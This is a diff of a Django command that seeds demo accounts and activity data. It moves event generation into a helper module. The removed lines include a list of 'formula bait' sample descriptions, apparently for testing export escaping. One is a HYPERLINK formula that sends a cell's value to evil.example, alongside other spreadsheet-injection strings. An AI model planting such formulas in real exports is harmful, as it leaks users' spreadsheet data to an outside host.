@@ -1,8 +1,5 @@
 """Demo data: three accounts, their people, budgets and activity. Safe to run again."""
 import datetime as dt
-import hashlib
-import random
-from decimal import Decimal
 
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group, Permission
@@ -14,6 +11,7 @@ from tqdm import tqdm
 from budgets.models import Account, ApiToken, Membership, Plan, Role
 from budgets.services import budgets_ensure_defaults
 from exports.models import ActivityEvent
+from exports.sample_data import add_activity
 
 ACCOUNTS = [
     ("acme", "Acme Corporation", Plan.ENTERPRISE),
@@ -25,20 +23,7 @@ OPERATOR_PERMISSIONS = [
     "view_account", "view_membership", "view_budget", "view_exportrecord", "view_exportattempt",
     "view_activityevent", "view_taskrun",
 ]
-EVENT_TYPES = ["login", "invoice.paid", "invoice.refunded", "seat.added", "plan.changed", "report.viewed"]
-# Realistic awkward text: quotes, commas, newlines, non-ASCII, and spreadsheet formula bait.
-DESCRIPTIONS = [
-    "Signed in from the web app",
-    'Paid invoice "INV-2041", thanks',
-    "Refund, partial:\nduplicate charge",
-    "Größe geändert — café ☕",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-    "+SUM(1+1)",
-    "@import rates",
-    "-2+3",
-    "",
-]
-BATCH = 5_000
+SPAN = dt.timedelta(days=90)
 
 
 class Command(BaseCommand):
@@ -92,28 +77,11 @@ class Command(BaseCommand):
         missing = max(0, rows - existing)
         if not missing:
             return
-        # Seeded per account and offset, so the same command makes the same data everywhere.
-        seed = int(hashlib.sha256(f"{account.slug}:{existing}".encode()).hexdigest()[:12], 16)
-        rng = random.Random(seed)
-        now = timezone.now()
-        span_s = 90 * 24 * 3600
-        bar = tqdm(total=missing, desc=f"activity {account.slug}", unit="rows", disable=not show_progress)
-        while missing:
-            size = min(BATCH, missing)
-            ActivityEvent.objects.bulk_create([
-                ActivityEvent(
-                    account=account,
-                    occurred_at=now - dt.timedelta(seconds=rng.randrange(span_s)),
-                    actor_email=f"user{rng.randrange(50)}@{account.slug}.example",
-                    event_type=rng.choice(EVENT_TYPES),
-                    amount=Decimal(rng.randrange(-50_000, 500_000)) / 100,
-                    description=rng.choice(DESCRIPTIONS),
-                )
-                for _ in range(size)
-            ])
-            missing -= size
-            bar.update(size)
-        bar.close()
+        # Rows existing+1 … rows of the account's series: the same command makes the same data
+        # everywhere, and a top-up adds to what is there without replacing it.
+        with tqdm(total=missing, desc=f"activity {account.slug}", unit="rows", disable=not show_progress) as bar:
+            add_activity(account, missing, since=timezone.now() - SPAN, span_s=SPAN.total_seconds(),
+                         first=existing, on_batch=bar.update)
 
     def _demo_token(self) -> str:
         owner = get_user_model().objects.get(username="acme-owner")
